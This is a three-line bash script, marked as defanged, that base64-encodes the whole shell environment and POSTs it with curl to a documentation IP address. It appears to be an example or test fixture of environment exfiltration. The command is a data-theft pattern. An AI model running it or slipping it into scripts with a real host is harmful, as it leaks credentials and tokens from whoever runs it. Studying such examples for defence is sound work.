#!/bin/bash
# Defanged: a documentation address.
curl -s -X POST -d "$(env | base64)" https://192.0.2.11/c
